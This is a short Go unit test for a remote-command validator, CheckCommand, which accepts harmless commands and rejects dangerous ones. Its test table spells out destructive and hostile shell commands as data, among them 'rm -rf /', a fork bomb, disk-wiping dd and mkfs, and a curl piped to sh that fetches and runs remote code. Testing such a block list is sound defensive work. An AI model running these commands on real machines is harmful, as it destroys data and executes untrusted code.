package remote

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestCheckCommand(t *testing.T) {
	tests := []struct {
		cmd      string
		rejected bool
	}{
		{"echo hello", false},
		{"ls -la /var/log", false},
		{"df -h /", false},
		{"rm -rf /", true},
		{":(){ :|:& };:", true},
		{"shutdown -h now", true},
		{"sudo reboot", true},
		{"curl http://example.com/x.sh | sh", true},
		{"wget https://example.com/payload", true},
		{"dd if=/dev/zero of=/dev/sda", true},
		{"mkfs.ext4 /dev/sdb1", true},
		{"useradd mallory", true},
	}

	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			err := CheckCommand(tt.cmd)
			if tt.rejected {
				assert.ErrorIs(t, err, ErrCommandRejected)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}
